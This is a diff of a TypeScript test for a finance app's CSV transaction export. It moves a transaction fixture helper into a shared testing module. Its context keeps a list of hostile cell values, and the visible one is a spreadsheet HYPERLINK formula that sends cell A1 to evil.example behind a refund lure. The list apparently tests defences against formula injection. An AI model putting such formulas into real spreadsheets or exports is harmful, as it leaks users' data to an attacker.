@@ -5,22 +5,9 @@
 // "a spreadsheet" for what becomes a formula or a number. Instants are written in UTC.
 import { parse, unparse } from 'papaparse';
 import { read, type CellObject, type WorkSheet } from 'xlsx';
-import { TRANSACTIONS_CSV_COLUMNS, toCentavos, transactionCsvRow, type Transaction } from '@pitaka/domain';
+import { TRANSACTIONS_CSV_COLUMNS, transactionCsvRow } from '@pitaka/domain';
+import { transaction } from '../../testing/transaction-fixtures';
 import { transactionsCsv, UTF8_BOM } from './transactions-csv-file';
-
-function transaction(overrides: Partial<Transaction> = {}): Transaction {
-  return {
-    id: 't1',
-    type: 'expense',
-    amount: toCentavos(250),
-    description: 'Groceries',
-    category: 'Food',
-    accountId: 'wallet',
-    accountName: 'Wallet',
-    date: new Date('2026-03-09T04:30:00Z'),
-    ...overrides,
-  };
-}
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
